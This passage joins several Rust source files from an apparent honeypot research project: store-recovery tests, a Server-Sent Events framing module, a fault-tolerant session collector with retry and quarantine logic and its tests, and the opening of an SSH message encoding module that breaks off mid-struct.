        assert!(
            !dir.join(crate::WAL_FILE).exists(),
            "clean close removes WAL"
        );

        let store = Store::open(&dir).unwrap();
        let ids: Vec<u64> = store
            .scan()
            .records()
            .map(|r| r.unwrap().session_id)
            .collect();
        assert_eq!(ids, (0..17).collect::<Vec<u64>>());
    }

    #[test]
    fn stale_wal_covering_a_sealed_segment_is_discarded() {
        let dir = tmpdir("wal-stale");
        // Simulate a crash between sealing segment 0 and truncating the
        // log: the sealed segment and the WAL hold the same rows.
        let (mut w, _) = StoreWriter::with_options(
            &dir,
            StoreOptions {
                rows_per_segment: 100,
                wal: Some(FsyncPolicy::Never),
            },
        )
        .unwrap();
        for i in 0..5 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        drop(w);
        let mut seg = SegmentWriter::create(dir.join("seg-000000.hsdb"));
        for i in 0..5 {
            seg.push(&rec(i));
        }
        seg.finish().unwrap();

        let report = recover(&dir).unwrap();
        assert!(report.wal_stale, "{report:?}");
        assert_eq!(report.recovered_rows, 0);
        let store = Store::open(&dir).unwrap();
        assert_eq!(store.summary().rows, 5, "no duplicated rows");
    }

    #[test]
    fn orphaned_tmp_files_are_removed() {
        let dir = tmpdir("tmp-orphan");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 5).unwrap();
        for i in 0..5 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        let orphan = dir.join("seg-000009.hsdb.tmp");
        std::fs::write(&orphan, b"half a segment").unwrap();
        assert!(needs_recovery(&dir));
        let report = recover(&dir).unwrap();
        assert_eq!(report.tmp_removed, 1);
        assert!(!orphan.exists());
        assert_eq!(Store::open(&dir).unwrap().summary().rows, 5);
    }

    #[test]
    fn torn_wal_tail_recovers_the_valid_prefix() {
        let dir = tmpdir("wal-torn");
        let (mut w, _) = StoreWriter::with_options(
            &dir,
            StoreOptions {
                rows_per_segment: 100,
                wal: Some(FsyncPolicy::Never),
            },
        )
        .unwrap();
        for i in 0..8 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        drop(w);
        // Tear the last 5 bytes off the log, mid-frame.
        let wal_path = dir.join(crate::WAL_FILE);
        let bytes = std::fs::read(&wal_path).unwrap();
        std::fs::write(&wal_path, &bytes[..bytes.len() - 5]).unwrap();

        let report = recover(&dir).unwrap();
        assert_eq!(report.recovered_rows, 7, "{report:?}");
        assert!(report.wal_bytes_lost > 0);
        let store = Store::open(&dir).unwrap();
        let ids: Vec<u64> = store
            .scan()
            .records()
            .map(|r| r.unwrap().session_id)
            .collect();
        assert_eq!(ids, (0..7).collect::<Vec<u64>>());
    }

    #[test]
    fn recovery_is_a_no_op_on_clean_stores() {
        let dir = tmpdir("clean");
        let mut w = StoreWriter::with_rows_per_segment(&dir, 5).unwrap();
        for i in 0..7 {
            StoreWriter::append(&mut w, &rec(i)).unwrap();
        }
        w.finish().unwrap();
        assert!(!needs_recovery(&dir));
        let report = recover(&dir).unwrap();
        assert!(report.is_clean());
        assert!(report.render().is_empty());
        assert_eq!(Store::open(&dir).unwrap().summary().rows, 7);
    }

    #[test]
    fn non_store_paths_are_rejected() {
        let dir = tmpdir("notastore");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("notes.txt"), "hi").unwrap();
        assert!(!is_sessiondb_path(&dir));
        assert!(matches!(
            Store::open(&dir),
            Err(SessionDbError::NotAStore { .. })
        ));
        let missing = dir.join("nope");
        assert!(matches!(
            Store::open(&missing),
            Err(SessionDbError::NotAStore { .. })
        ));
    }
}
