//! Server-Sent Events framing (the `GET /events` wire format).
//!
//! SSE is line-oriented: an event is a block of `field: value` lines
//! terminated by a blank line. This module renders frames (writer side,
//! used by the aggregator) and incrementally parses them back (client
//! side, used by the round-trip tests and the load-test dashboard
//! client). Only the fields this plane emits are modelled: `event:`,
//! `data:` (possibly multi-line), and comment lines (`:` keep-alives).

/// One parsed SSE event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SseEvent {
    /// The `event:` field (empty string if the frame had none).
    pub event: String,
    /// The `data:` payload; multi-line data is rejoined with `\n`.
    pub data: String,
}

/// Renders one frame. Multi-line `data` is split over consecutive
/// `data:` lines per the SSE spec, so payloads containing newlines
/// round-trip exactly.
pub fn frame(event: &str, data: &str) -> String {
    let mut out = String::with_capacity(event.len() + data.len() + 16);
    out.push_str("event: ");
    out.push_str(event);
    out.push('\n');
    for line in data.split('\n') {
        out.push_str("data: ");
        out.push_str(line);
        out.push('\n');
    }
    out.push('\n');
    out
}

/// A comment frame; clients ignore it, proxies see bytes flowing. Sent
/// as a keep-alive when no events fire.
pub fn keep_alive() -> &'static str {
    ": keep-alive\n\n"
}

/// Incremental SSE parser: feed arbitrary byte chunks, take complete
/// events as they form. Torn frames (a chunk boundary mid-line or
/// mid-frame) are buffered until their terminating blank line arrives.
#[derive(Debug, Default)]
pub struct FrameParser {
    buf: String,
}

impl FrameParser {
    /// A parser with an empty buffer.
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends a chunk (lossy UTF-8) and returns every event completed
    /// by it.
    pub fn push(&mut self, chunk: &[u8]) -> Vec<SseEvent> {
        self.buf.push_str(&String::from_utf8_lossy(chunk));
        let mut events = Vec::new();
        // A frame ends at a blank line ("\n\n").
        while let Some(end) = self.buf.find("\n\n") {
            let frame: String = self.buf.drain(..end + 2).collect();
            if let Some(ev) = parse_one(&frame) {
                events.push(ev);
            }
        }
        events
    }
}

/// Parses one complete frame (comment-only frames yield `None`).
fn parse_one(frame: &str) -> Option<SseEvent> {
    let mut event = String::new();
    let mut data_lines: Vec<&str> = Vec::new();
    for line in frame.lines() {
        if let Some(rest) = line.strip_prefix("event:") {
            event = rest.strip_prefix(' ').unwrap_or(rest).to_string();
        } else if let Some(rest) = line.strip_prefix("data:") {
            data_lines.push(rest.strip_prefix(' ').unwrap_or(rest));
        }
        // ':' comments and unknown fields are ignored per spec.
    }
    if event.is_empty() && data_lines.is_empty() {
        return None;
    }
    Some(SseEvent {
        event,
        data: data_lines.join("\n"),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn single_line_frame_round_trips() {
        let f = frame("session", r#"{"id":1}"#);
        assert_eq!(f, "event: session\ndata: {\"id\":1}\n\n");
        let mut p = FrameParser::new();
        let events = p.push(f.as_bytes());
        assert_eq!(
            events,
            vec![SseEvent {
                event: "session".into(),
                data: r#"{"id":1}"#.into(),
            }]
        );
    }

    #[test]
    fn multi_line_data_round_trips() {
        let data = "line one\nline two\n\tindented";
        let f = frame("recovery", data);
        let mut p = FrameParser::new();
        let events = p.push(f.as_bytes());
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].data, data);
    }

    #[test]
    fn torn_chunks_reassemble() {
        let f1 = frame("session", "abc");
        let f2 = frame("session", "def");
        let stream = format!("{}{}{}", keep_alive(), f1, f2);
        let bytes = stream.as_bytes();
        let mut p = FrameParser::new();
        let mut got = Vec::new();
        // Feed one byte at a time: worst-case tearing.
        for b in bytes {
            got.extend(p.push(std::slice::from_ref(b)));
        }
        assert_eq!(got.len(), 2, "keep-alive is skipped, both frames parse");
        assert_eq!(got[0].data, "abc");
        assert_eq!(got[1].data, "def");
    }

    #[test]
    fn pipelined_frames_in_one_chunk() {
        let stream = format!("{}{}", frame("a", "1"), frame("b", "2"));
        let mut p = FrameParser::new();
        let got = p.push(stream.as_bytes());
        assert_eq!(got.len(), 2);
        assert_eq!(got[0].event, "a");
        assert_eq!(got[1].event, "b");
    }
}
