//! The central collector (paper §3.2).
//!
//! Every honeypot forwards a closed session to the collector, which
//! assigns a dense session id and appends it to the honeynet database. The
//! collector is shared across generator threads, hence the lock; analysis
//! runs on the frozen, chronologically sorted store.
//!
//! # Degraded operation
//!
//! A long-running deployment loses records between sensor and database:
//! flushes fail, the forwarding channel backs up, malformed records
//! arrive. [`CollectorConfig`] models all three with seeded fault
//! injection:
//!
//! * a write may fail with probability `flush_failure_rate`; failed
//!   records enter a retry queue and are retried with exponential backoff
//!   (measured in flush passes), up to `max_retries` failures each;
//! * the retry queue is bounded by `queue_capacity`; records failing while
//!   it is full are dropped;
//! * records that fail validation never reach the store — they land in a
//!   quarantine lane with their diagnosis.
//!
//! Every fate is counted in [`IngestStats`], so callers can account for
//! each record handed in: `accepted + dropped + quarantined` equals the
//! number of ingest calls once the collector is drained (`retried` counts
//! retry *attempts*, not records). The default config injects no faults
//! and behaves exactly like the original write-through collector.
//!
//! # Id density invariant
//!
//! Both [`Collector::ingest`] and [`Collector::ingest_batch`] assign ids
//! at *store* time, in store order: the ids of stored records are exactly
//! `0..stats().accepted`, with no gaps, regardless of how many records
//! were dropped or quarantined along the way. A batch holds the lock for
//! its whole flush, so the ids of its stored members form the contiguous
//! range `ingest_batch` returns.

use crate::record::SessionRecord;
use netsim::faults::{backoff_delay, FailureInjector};
use parking_lot::Mutex;
use std::collections::VecDeque;
use std::sync::Arc;

/// Error type sinks report; boxed so any backend's error fits.
pub type SinkError = Box<dyn std::error::Error + Send + Sync>;

/// A spill target for stored sessions.
///
/// In the default configuration the collector keeps every stored record
/// in memory and [`Collector::into_parts`] returns them as a sorted
/// `Vec`. A collector built with [`Collector::with_sink`] instead hands
/// each stored record to the sink the moment it is accepted — bounded
/// memory, suitable for dataset sizes that never fit in RAM. Sink write
/// failures flow through the same retry/backoff/drop machinery as
/// injected flush failures, so a flaky disk degrades the run instead of
/// crashing it.
pub trait SessionSink: Send {
    /// Appends one stored record. The collector has already assigned the
    /// dense `session_id`.
    fn append(&mut self, rec: &SessionRecord) -> Result<(), SinkError>;
    /// Flushes and closes the sink (e.g. seals the final segment).
    fn finish(&mut self) -> Result<(), SinkError> {
        Ok(())
    }
}

/// Errors surfaced by the collector's fallible entry points.
#[derive(Debug)]
pub enum CollectorError {
    /// The spill sink failed while flushing or closing.
    Sink {
        /// Backend error message.
        message: String,
    },
    /// A parallel ingest worker panicked.
    WorkerPanicked {
        /// Index of the worker that died.
        worker: usize,
        /// Panic payload, when it was a string.
        message: String,
    },
    /// Exclusive access was required but the collector is still shared.
    StillShared {
        /// Outstanding strong references.
        references: usize,
    },
}

impl std::fmt::Display for CollectorError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CollectorError::Sink { message } => write!(f, "session sink failed: {message}"),
            CollectorError::WorkerPanicked { worker, message } => {
                write!(f, "ingest worker {worker} panicked: {message}")
            }
            CollectorError::StillShared { references } => {
                write!(f, "collector still shared ({references} references)")
            }
        }
    }
}

impl std::error::Error for CollectorError {}

/// Fault-injection knobs for the collector. The default injects nothing.
#[derive(Debug, Clone)]
pub struct CollectorConfig {
    /// Retry-queue bound; `None` means unbounded.
    pub queue_capacity: Option<usize>,
    /// Probability that one store write fails.
    pub flush_failure_rate: f64,
    /// Failures tolerated per record before it is dropped.
    pub max_retries: u32,
    /// Seed of the failure injector.
    pub seed: u64,
}

impl Default for CollectorConfig {
    fn default() -> Self {
        Self {
            queue_capacity: None,
            flush_failure_rate: 0.0,
            max_retries: 3,
            seed: 0,
        }
    }
}

/// Counters for every fate an ingested record can meet.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct IngestStats {
    /// Records stored (ids `0..accepted`).
    pub accepted: u64,
    /// Retry attempts performed (attempts, not distinct records).
    pub retried: u64,
    /// Records lost: retries exhausted or retry queue full.
    pub dropped: u64,
    /// Records failing validation, diverted to the quarantine lane.
    pub quarantined: u64,
}

/// What happened to one ingested record.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IngestOutcome {
    /// Stored immediately under this id.
    Stored(u64),
    /// Write failed; queued for retry (will be stored or dropped later).
    Deferred,
    /// Lost: the retry queue was full.
    Dropped,
    /// Failed validation; kept in the quarantine lane.
    Quarantined,
}

/// Why a record was quarantined.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ValidationError {
    /// The session ends before it starts.
    EndBeforeStart,
}

impl std::fmt::Display for ValidationError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ValidationError::EndBeforeStart => write!(f, "session ends before it starts"),
        }
    }
}

fn validate(rec: &SessionRecord) -> Result<(), ValidationError> {
    if rec.end < rec.start {
        return Err(ValidationError::EndBeforeStart);
    }
    Ok(())
}

#[derive(Debug)]
struct Queued {
    rec: SessionRecord,
    failures: u32,
    /// First flush pass allowed to retry this record (backoff).
    ready_at: u64,
}

struct Inner {
    stored: Vec<SessionRecord>,
    sink: Option<Box<dyn SessionSink>>,
    last_sink_error: Option<String>,
    retry: VecDeque<Queued>,
    quarantine: Vec<(SessionRecord, ValidationError)>,
    stats: IngestStats,
    injector: FailureInjector,
    pass: u64,
}

impl std::fmt::Debug for Inner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Inner")
            .field("stored", &self.stored.len())
            .field("sink", &self.sink.is_some())
            .field("retry", &self.retry.len())
            .field("quarantine", &self.quarantine.len())
            .field("stats", &self.stats)
            .finish_non_exhaustive()
    }
}

impl Inner {
    /// Attempts to store `rec` under the next dense id. The write fails
    /// when the failure injector fires or the spill sink rejects it; the
    /// record is handed back so the caller can queue a retry.
    #[allow(clippy::result_large_err)] // Err returns the record itself for requeueing
    fn attempt_store(&mut self, mut rec: SessionRecord) -> Result<u64, SessionRecord> {
        if self.injector.fires() {
            return Err(rec);
        }
        let id = self.stats.accepted;
        rec.session_id = id;
        match &mut self.sink {
            Some(sink) => {
                if let Err(e) = sink.append(&rec) {
                    self.last_sink_error = Some(e.to_string());
                    return Err(rec);
                }
            }
            None => self.stored.push(rec),
        }
        self.stats.accepted += 1;
        Ok(id)
    }

    /// One retry pass over the queue: each due record is retried once;
    /// records exhausting `max_retries` are dropped.
    fn flush_retries(&mut self, max_retries: u32) {
        if self.retry.is_empty() {
            return;
        }
        self.pass += 1;
        let pass = self.pass;
        let mut keep = VecDeque::with_capacity(self.retry.len());
        while let Some(q) = self.retry.pop_front() {
            if q.ready_at > pass {
                keep.push_back(q);
                continue;
            }
            if let Err(rec) = self.attempt_store(q.rec) {
                let failures = q.failures + 1;
                if failures > max_retries {
                    self.stats.dropped += 1;
                } else {
                    self.stats.retried += 1;
                    keep.push_back(Queued {
                        rec,
                        failures,
                        ready_at: pass + backoff_delay(1, failures, 1 << 16),
                    });
                }
            }
        }
        self.retry = keep;
    }

    /// Handles one validated record: direct write, deferral, or drop.
    fn submit(
        &mut self,
        rec: SessionRecord,
        cfg_cap: Option<usize>,
        max_retries: u32,
    ) -> IngestOutcome {
        let rec = match self.attempt_store(rec) {
            Ok(id) => return IngestOutcome::Stored(id),
            Err(rec) => rec,
        };
        if max_retries == 0 || cfg_cap.is_some_and(|cap| self.retry.len() >= cap) {
            self.stats.dropped += 1;
            return IngestOutcome::Dropped;
        }
        self.stats.retried += 1;
        self.retry.push_back(Queued {
            rec,
            failures: 1,
            ready_at: self.pass + backoff_delay(1, 1, 1 << 16),
        });
        IngestOutcome::Deferred
    }
}

/// Thread-safe session sink.
#[derive(Debug)]
pub struct Collector {
    inner: Mutex<Inner>,
    capacity: Option<usize>,
    max_retries: u32,
}

impl Default for Collector {
    fn default() -> Self {
        Self::with_config(CollectorConfig::default())
    }
}

impl Collector {
    /// An empty, fault-free collector.
    pub fn new() -> Self {
        Self::default()
    }

    /// An empty collector with the given fault-injection config.
    pub fn with_config(cfg: CollectorConfig) -> Self {
        Self {
            inner: Mutex::new(Inner {
                stored: Vec::new(),
                sink: None,
                last_sink_error: None,
                retry: VecDeque::new(),
                quarantine: Vec::new(),
                stats: IngestStats::default(),
                injector: FailureInjector::new(cfg.flush_failure_rate, cfg.seed),
                pass: 0,
            }),
            capacity: cfg.queue_capacity,
            max_retries: cfg.max_retries,
        }
    }

    /// A collector that spills every stored record into `sink` instead of
    /// keeping it in memory (see [`SessionSink`]). Retry/backoff/drop and
    /// quarantine behave exactly as in the in-memory mode; drain with
    /// [`Collector::into_sink_parts`].
    pub fn with_sink(cfg: CollectorConfig, sink: Box<dyn SessionSink>) -> Self {
        let c = Self::with_config(cfg);
        c.inner.lock().sink = Some(sink);
        c
    }

    /// Ingests one closed session. On the fault-free default config this
    /// always stores immediately and returns
    /// [`IngestOutcome::Stored`] with the assigned dense id.
    pub fn ingest(&self, rec: SessionRecord) -> IngestOutcome {
        let mut inner = self.inner.lock();
        inner.flush_retries(self.max_retries);
        if let Err(e) = validate(&rec) {
            inner.stats.quarantined += 1;
            inner.quarantine.push((rec, e));
            return IngestOutcome::Quarantined;
        }
        inner.submit(rec, self.capacity, self.max_retries)
    }

    /// Ingests a batch under a single lock acquisition and returns the
    /// contiguous id range assigned to the batch's *stored* members (see
    /// the module-level id-density invariant). Deferred, dropped and
    /// quarantined members are excluded from the range and visible via
    /// [`Collector::stats`].
    pub fn ingest_batch(
        &self,
        recs: impl IntoIterator<Item = SessionRecord>,
    ) -> std::ops::Range<u64> {
        let mut inner = self.inner.lock();
        inner.flush_retries(self.max_retries);
        let first = inner.stored.len() as u64;
        for rec in recs {
            if let Err(e) = validate(&rec) {
                inner.stats.quarantined += 1;
                inner.quarantine.push((rec, e));
                continue;
            }
            inner.submit(rec, self.capacity, self.max_retries);
        }
        first..inner.stored.len() as u64
    }

    /// Number of sessions stored.
    pub fn len(&self) -> usize {
        self.inner.lock().stored.len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.inner.lock().stored.is_empty()
    }

    /// Current fate counters. Records still awaiting retry are in no
    /// counter yet; drain with [`Collector::into_parts`] for the final
    /// accounting.
    pub fn stats(&self) -> IngestStats {
        self.inner.lock().stats
    }

    /// The quarantine lane: records that failed validation, with their
    /// diagnoses.
    pub fn quarantine(&self) -> Vec<(SessionRecord, ValidationError)> {
        self.inner.lock().quarantine.clone()
    }

    /// Freezes the collector into a chronologically sorted dataset, as the
    /// in-situ analysis interface presents it.
    pub fn into_dataset(self) -> Vec<SessionRecord> {
        self.into_parts().0
    }

    /// Drains the retry queue (each record is retried until stored or out
    /// of retries) and freezes the collector, returning the sorted
    /// dataset, the final stats, and the quarantine lane.
    pub fn into_parts(
        self,
    ) -> (
        Vec<SessionRecord>,
        IngestStats,
        Vec<(SessionRecord, ValidationError)>,
    ) {
        let mut inner = self.inner.into_inner();
        while !inner.retry.is_empty() {
            inner.flush_retries(self.max_retries);
        }
        let mut v = inner.stored;
        v.sort_by_key(|r| (r.start, r.session_id));
        (v, inner.stats, inner.quarantine)
    }

    /// Drains the retry queue and closes the spill sink of a collector
    /// built with [`Collector::with_sink`], returning the final stats and
    /// quarantine lane. Records lost to persistent sink failures are in
    /// `stats.dropped`; a failing [`SessionSink::finish`] (e.g. the final
    /// segment cannot be sealed) is a hard error.
    pub fn into_sink_parts(
        self,
    ) -> Result<(IngestStats, Vec<(SessionRecord, ValidationError)>), CollectorError> {
        let mut inner = self.inner.into_inner();
        while !inner.retry.is_empty() {
            inner.flush_retries(self.max_retries);
        }
        if let Some(mut sink) = inner.sink.take() {
            sink.finish().map_err(|e| CollectorError::Sink {
                message: e.to_string(),
            })?;
        }
        Ok((inner.stats, inner.quarantine))
    }

    /// Reclaims exclusive ownership of a shared collector, e.g. after
    /// parallel ingest. Unlike `Arc::try_unwrap(..).unwrap()`, contention
    /// (a worker still holding a clone) surfaces as
    /// [`CollectorError::StillShared`] instead of a panic.
    pub fn try_from_arc(c: Arc<Collector>) -> Result<Collector, CollectorError> {
        Arc::try_unwrap(c).map_err(|arc| CollectorError::StillShared {
            references: Arc::strong_count(&arc),
        })
    }
}

/// Runs `workers` ingest closures against one collector on scoped
/// threads and hands the collector back once all of them finished.
///
/// Worker panics are caught at join time and propagated as
/// [`CollectorError::WorkerPanicked`] (first failing worker wins) rather
/// than tearing down the whole process — a long generation run survives
/// one misbehaving producer and still reports what happened.
pub fn ingest_parallel<F>(
    collector: Collector,
    workers: usize,
    work: F,
) -> Result<Collector, CollectorError>
where
    F: Fn(usize, &Collector) + Send + Sync,
{
    let first_err = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..workers)
            .map(|w| {
                let collector = &collector;
                let work = &work;
                (w, scope.spawn(move || work(w, collector)))
            })
            .collect();
        let mut first_err = None;
        for (worker, handle) in handles {
            if let Err(payload) = handle.join() {
                let message = panic_message(payload.as_ref());
                if first_err.is_none() {
                    first_err = Some(CollectorError::WorkerPanicked { worker, message });
                }
            }
        }
        first_err
    });
    match first_err {
        Some(e) => Err(e),
        None => Ok(collector),
    }
}

/// Best-effort extraction of a panic payload's message. Shared with the
/// serving layer's shard supervision, which turns caught unwinds into
/// the same style of diagnostics as collector worker panics.
pub fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::{Protocol, SessionEndReason};
    use hutil::Date;
    use netsim::Ipv4Addr;

    fn rec(start_hour: u8) -> SessionRecord {
        SessionRecord {
            session_id: 999, // collector must overwrite
            honeypot_id: 0,
            honeypot_ip: Ipv4Addr(1),
            client_ip: Ipv4Addr(2),
            client_port: 1,
            protocol: Protocol::Ssh,
            start: Date::new(2022, 1, 1).at(start_hour, 0, 0),
            end: Date::new(2022, 1, 1).at(start_hour, 0, 30),
            end_reason: SessionEndReason::ClientClose,
            client_version: None,
            logins: vec![],
            commands: vec![],
            uris: vec![],
            file_events: vec![],
        }
    }

    #[test]
    fn ids_are_dense_and_assigned() {
        let c = Collector::new();
        assert_eq!(c.ingest(rec(5)), IngestOutcome::Stored(0));
        assert_eq!(c.ingest(rec(3)), IngestOutcome::Stored(1));
        assert_eq!(c.len(), 2);
        assert_eq!(c.stats().accepted, 2);
    }

    #[test]
    fn dataset_is_chronological() {
        let c = Collector::new();
        c.ingest(rec(9));
        c.ingest(rec(1));
        assert_eq!(c.ingest_batch([rec(5), rec(2)]), 2..4);
        let ds = c.into_dataset();
        assert_eq!(ds.len(), 4);
        let hours: Vec<u8> = ds.iter().map(|r| r.start.hour()).collect();
        assert_eq!(hours, vec![1, 2, 5, 9]);
    }

    #[test]
    fn concurrent_ingest_is_safe() {
        let c = ingest_parallel(Collector::new(), 8, |_, c| {
            for i in 0..100 {
                c.ingest(rec((i % 24) as u8));
            }
        })
        .expect("no worker panics");
        let ds = c.into_dataset();
        assert_eq!(ds.len(), 800);
        // Ids are a permutation of 0..800.
        let mut ids: Vec<u64> = ds.iter().map(|r| r.session_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, (0..800).collect::<Vec<u64>>());
    }

    #[test]
    fn worker_panic_is_an_error_not_a_crash() {
        let result = ingest_parallel(Collector::new(), 4, |w, c| {
            c.ingest(rec(1));
            if w == 2 {
                panic!("worker {w} died");
            }
        });
        match result {
            Err(CollectorError::WorkerPanicked { worker, message }) => {
                assert_eq!(worker, 2);
                assert!(message.contains("died"), "{message}");
            }
            other => panic!("expected WorkerPanicked, got {other:?}"),
        }
    }

    #[test]
    fn contended_arc_is_an_error_not_a_crash() {
        let c = Arc::new(Collector::new());
        let held = Arc::clone(&c);
        match Collector::try_from_arc(c) {
            Err(CollectorError::StillShared { references }) => assert_eq!(references, 2),
            other => panic!("expected StillShared, got {other:?}"),
        }
        drop(held);
    }

    /// A sink that records appends and can be told to fail.
    struct TestSink {
        seen: Arc<Mutex<Vec<u64>>>,
        fail_every: Option<u64>,
        calls: u64,
        finished: Arc<Mutex<bool>>,
    }

    impl SessionSink for TestSink {
        fn append(&mut self, rec: &SessionRecord) -> Result<(), SinkError> {
            self.calls += 1;
            if self
                .fail_every
                .is_some_and(|n| self.calls.is_multiple_of(n))
            {
                return Err("injected sink failure".into());
            }
            self.seen.lock().push(rec.session_id);
            Ok(())
        }

        fn finish(&mut self) -> Result<(), SinkError> {
            *self.finished.lock() = true;
            Ok(())
        }
    }

    #[test]
    fn sink_mode_spills_with_dense_ids_and_finishes() {
        let seen = Arc::new(Mutex::new(Vec::new()));
        let finished = Arc::new(Mutex::new(false));
        let c = Collector::with_sink(
            CollectorConfig::default(),
            Box::new(TestSink {
                seen: Arc::clone(&seen),
                fail_every: None,
                calls: 0,
                finished: Arc::clone(&finished),
            }),
        );
        for i in 0..50 {
            c.ingest(rec((i % 24) as u8));
        }
        let (stats, quarantine) = c.into_sink_parts().expect("sink closes");
        assert_eq!(stats.accepted, 50);
        assert!(quarantine.is_empty());
        assert!(*finished.lock(), "finish() must seal the sink");
        assert_eq!(*seen.lock(), (0..50).collect::<Vec<u64>>());
    }

    #[test]
    fn sink_failures_retry_like_flush_failures() {
        let seen = Arc::new(Mutex::new(Vec::new()));
        let finished = Arc::new(Mutex::new(false));
        let c = Collector::with_sink(
            CollectorConfig {
                max_retries: 8,
                ..CollectorConfig::default()
            },
            Box::new(TestSink {
                seen: Arc::clone(&seen),
                fail_every: Some(5), // every 5th append fails
                calls: 0,
                finished: Arc::clone(&finished),
            }),
        );
        for i in 0..100 {
            c.ingest(rec((i % 24) as u8));
        }
        let (stats, _) = c.into_sink_parts().expect("sink closes");
        assert!(
            stats.retried > 0,
            "sink failures must be retried: {stats:?}"
        );
        assert_eq!(stats.accepted + stats.dropped, 100);
        // Ids of spilled records are dense over the accepted set.
        let mut ids = seen.lock().clone();
        ids.sort_unstable();
        assert_eq!(ids, (0..stats.accepted).collect::<Vec<u64>>());
    }

    #[test]
    fn invalid_records_are_quarantined() {
        let c = Collector::new();
        let mut bad = rec(5);
        bad.end = bad.start.plus_secs(-10);
        assert_eq!(c.ingest(bad), IngestOutcome::Quarantined);
        assert_eq!(c.ingest(rec(6)), IngestOutcome::Stored(0));
        let (ds, stats, quarantine) = c.into_parts();
        assert_eq!(ds.len(), 1);
        assert_eq!(stats.quarantined, 1);
        assert_eq!(quarantine.len(), 1);
        assert_eq!(quarantine[0].1, ValidationError::EndBeforeStart);
    }

    #[test]
    fn flush_failures_retry_and_eventually_store() {
        let c = Collector::with_config(CollectorConfig {
            flush_failure_rate: 0.4,
            queue_capacity: Some(1024),
            max_retries: 8,
            seed: 17,
        });
        for i in 0..500 {
            c.ingest(rec((i % 24) as u8));
        }
        let (ds, stats, _) = c.into_parts();
        assert_eq!(stats.accepted, ds.len() as u64);
        assert!(stats.retried > 0, "some writes must have failed");
        // Full accounting: every record met exactly one fate.
        assert_eq!(stats.accepted + stats.dropped + stats.quarantined, 500);
        // With 8 retries at 40 % failure, nearly everything lands.
        assert!(ds.len() >= 490, "stored {}", ds.len());
        // Ids dense over stored records.
        let mut ids: Vec<u64> = ds.iter().map(|r| r.session_id).collect();
        ids.sort_unstable();
        assert_eq!(ids, (0..ds.len() as u64).collect::<Vec<u64>>());
    }

    #[test]
    fn bounded_queue_drops_on_overflow() {
        let c = Collector::with_config(CollectorConfig {
            flush_failure_rate: 1.0, // every write fails
            queue_capacity: Some(4),
            max_retries: 1000,
            seed: 1,
        });
        for i in 0..50 {
            c.ingest(rec((i % 24) as u8));
        }
        let stats = c.stats();
        assert!(stats.dropped >= 40, "overflow must drop: {stats:?}");
    }

    #[test]
    fn zero_retries_drops_failed_writes_immediately() {
        let c = Collector::with_config(CollectorConfig {
            flush_failure_rate: 1.0,
            queue_capacity: None,
            max_retries: 0,
            seed: 2,
        });
        assert_eq!(c.ingest(rec(1)), IngestOutcome::Dropped);
        let (ds, stats, _) = c.into_parts();
        assert!(ds.is_empty());
        assert_eq!(stats.dropped, 1);
        assert_eq!(stats.retried, 0);
    }

    #[test]
    fn faulted_collector_is_deterministic() {
        let gen = || {
            let c = Collector::with_config(CollectorConfig {
                flush_failure_rate: 0.3,
                queue_capacity: Some(16),
                max_retries: 3,
                seed: 99,
            });
            for i in 0..300 {
                c.ingest(rec((i % 24) as u8));
            }
            c.into_parts()
        };
        let (a, sa, _) = gen();
        let (b, sb, _) = gen();
        assert_eq!(sa, sb);
        assert_eq!(a.len(), b.len());
    }
}
