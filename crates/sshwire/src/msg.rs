//! SSH message encoding/decoding for the subset the honeypot dialogue uses.

use crate::wire::*;
use crate::SshError;
use bytes::{Buf, Bytes, BytesMut};

/// Message numbers (RFC 4250 §4.1.2).
pub mod num {
    pub const DISCONNECT: u8 = 1;
    pub const SERVICE_REQUEST: u8 = 5;
    pub const SERVICE_ACCEPT: u8 = 6;
    pub const KEXINIT: u8 = 20;
    pub const NEWKEYS: u8 = 21;
    pub const KEXDH_INIT: u8 = 30;
    pub const KEXDH_REPLY: u8 = 31;
    pub const USERAUTH_REQUEST: u8 = 50;
    pub const USERAUTH_FAILURE: u8 = 51;
    pub const USERAUTH_SUCCESS: u8 = 52;
    pub const CHANNEL_OPEN: u8 = 90;
    pub const CHANNEL_OPEN_CONFIRMATION: u8 = 91;
    pub const CHANNEL_OPEN_FAILURE: u8 = 92;
    pub const CHANNEL_DATA: u8 = 94;
    pub const CHANNEL_EOF: u8 = 96;
    pub const CHANNEL_CLOSE: u8 = 97;
    pub const CHANNEL_REQUEST: u8 = 98;
    pub const CHANNEL_SUCCESS: u8 = 99;
    pub const CHANNEL_FAILURE: u8 = 100;
}

/// Algorithm negotiation lists carried by `SSH_MSG_KEXINIT`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KexInit {
    /// Anti-replay cookie.
    pub cookie: [u8; 16],
    /// Key exchange algorithm preferences.
    pub kex_algorithms: Vec<String>,
    /// Host key algorithm preferences.
    pub server_host_key_algorithms: Vec<String>,
    /// Cipher preferences, client→server.
    pub encryption_c2s: Vec<String>,
    /// Cipher preferences, server→client.
    pub encryption_s2c: Vec<String>,
    /// MAC preferences, client→server.
    pub mac_c2s: Vec<String>,
    /// MAC preferences, server→client.
